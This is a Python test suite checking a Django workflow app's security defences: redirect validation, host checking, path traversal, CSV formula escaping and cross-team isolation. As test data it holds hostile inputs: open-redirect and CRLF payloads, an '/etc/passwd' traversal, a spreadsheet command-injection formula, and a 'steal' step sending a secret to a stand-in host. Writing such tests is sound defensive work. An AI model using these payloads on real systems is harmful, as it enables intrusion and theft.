"""What a designer of another team tried, and a stranger: each door by itself."""

import json

import pytest
from django.test import Client

from designer.actions import note_deed
from runs.models import Run, Signal
from tests.actions.flows import echo, flow
from tests.api.asking import program, refused
from tests.factories import Hand, a_run
from tests.people import person, signed_in
from tests.security.scene import Scene, somebody, teams_own
from tests.security.test_every_route import ALL_BUT_ADMIN

pytestmark = pytest.mark.django_db


@pytest.fixture
def scene(db: None) -> Scene:
    return teams_own()


@pytest.fixture
def run(db: None) -> Run:
    return a_run(flow(one=echo()), {})


def test_what_somebody_sees_is_kept_by_no_cache(run: Run):
    client = signed_in(person("operator"))
    paths = [
        "/",
        "/runs/",
        f"/runs/{run.pk}/",
        f"/runs/{run.pk}/values/input/",
        "/tokens/",
        "/nowhere/",
    ]
    for path in paths:
        assert "no-store" in client.get(path)["Cache-Control"], path
    assert "no-store" in program(person("operator")).get(f"/runs/{run.pk}/")["Cache-Control"]


def test_nothing_is_taken_for_what_it_does_not_say_it_is(run: Run):
    for path in ("/", f"/runs/{run.pk}/values/input/", "/audit.csv"):
        answer = signed_in(person("admin")).get(path)
        assert answer["X-Content-Type-Options"] == "nosniff", path
    value = signed_in(person("admin")).get(f"/runs/{run.pk}/values/input/")
    assert (
        value["Content-Disposition"].startswith("attachment;") and value["Content-Type"] == "application/json"
    )


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "localhost:80@evil.example", ""])
def test_another_host_is_not_answered(host: str, settings):
    settings.ALLOWED_HOSTS = ["localhost"]
    assert Client().get("/sign-in/", headers={"Host": host}).status_code == 400


@pytest.mark.parametrize(
    "place", ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)", "///evil.example",
              "https:///evil.example", "\thttps://evil.example", "/%0d%0aSet-Cookie:a=b"],
)  # fmt: skip
def test_nobody_is_led_away(place: str):
    maya = somebody("maya", ("viewer",))
    maya.set_password("correct horse battery")
    maya.save()
    client = Client()
    sent = {"username": "maya", "password": "correct horse battery", "next": place}
    answers = [client.post("/sign-in/", sent), client.post("/theme/", {"theme": "dark", "next": place})]
    for answer in answers:
        assert answer.status_code == 302 and "evil" not in answer["Location"], place
        assert "javascript" not in answer["Location"] and "\n" not in answer["Location"]


@pytest.mark.parametrize(
    "what", ["../../etc/passwd", "step-1-state", "variable-0x1", "input%00", "step-1-input/../.."]
)
def test_no_value_is_had_by_a_path(what: str, run: Run):
    assert signed_in(person("viewer")).get(f"/runs/{run.pk}/values/{what}/").status_code == 404


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_cell_of_a_file_is_a_formula(cell: str):
    note_deed("made", "workflow", cell, by=person("admin"))
    answer = signed_in(person("admin")).get("/audit.csv")
    text = b"".join(answer).decode()  # type: ignore[attr-defined]
    assert f"'{cell}" in text and f",{cell}" not in text


def test_a_document_reaches_nothing_of_another_team(scene: Scene):
    """By what a definition names: their workflow as a step, their secret, in a check and in a simulation."""
    asking = program(somebody("oskar", ALL_BUT_ADMIN, "elsewhere"))
    steals = {
        "kind": "action",
        "does": "http.request@^1",
        "with": {"url": "https://a.example/?${ secret.canary_secret }"},
    }
    starts = {"kind": "workflow", "runs": scene.args["key"], "next": "steal"}
    document = {
        "choreo": 1,
        "key": "spy",
        "title": "Spy",
        "owner": "x",
        **flow(start_it=starts, steal=steals),
    }
    for path, body in (
        ("/check/", document),
        ("/simulate/", {"definition": document, "input": {}}),
    ):
        answer = asking.post(path, body)
        said = json.dumps(answer.json()).replace(scene.args["key"], "").replace("canary_secret", "")
        assert answer.status_code in (200, 422), answer.content
        assert not [word for word in scene.ids if word in said]
        assert "Canary" not in said


def test_a_body_that_names_what_is_another_teams_starts_nothing(scene: Scene):
    asking = program(somebody("oskar", ALL_BUT_ADMIN, "elsewhere"))
    before = Run.objects.count()
    key = scene.args["key"]
    refused(asking.post("/runs/", {"workflow": key, "input": {}}), 422)
    refused(asking.post("/triggers/", {"workflow": key, "kind": "webhook", "title": "Mine"}), 422)
    refused(asking.post("/simulate/", {"workflow": key, "input": {}}), 422)
    assert Run.objects.count() == before


def test_a_hidden_key_is_not_confirmed_to_who_guesses_it():
    hides = {"type": "object", "properties": {"pin": {"type": "string", "sensitive": True}}}
    tell = {"kind": "emit", "signal": "pin.set", "key": "${ input.pin }"}
    a_run({**flow(one=tell), "input": hides}, {"pin": "7391-05"})
    Hand().claim()
    assert Signal.objects.get().key == "7391-05"
    guess = "/signals/?key=7391-05"
    assert program(person("viewer")).get(guess).json()["items"] == []
    assert [one["key"] for one in program(person("trusted")).get(guess).json()["items"]] == ["7391-05"]
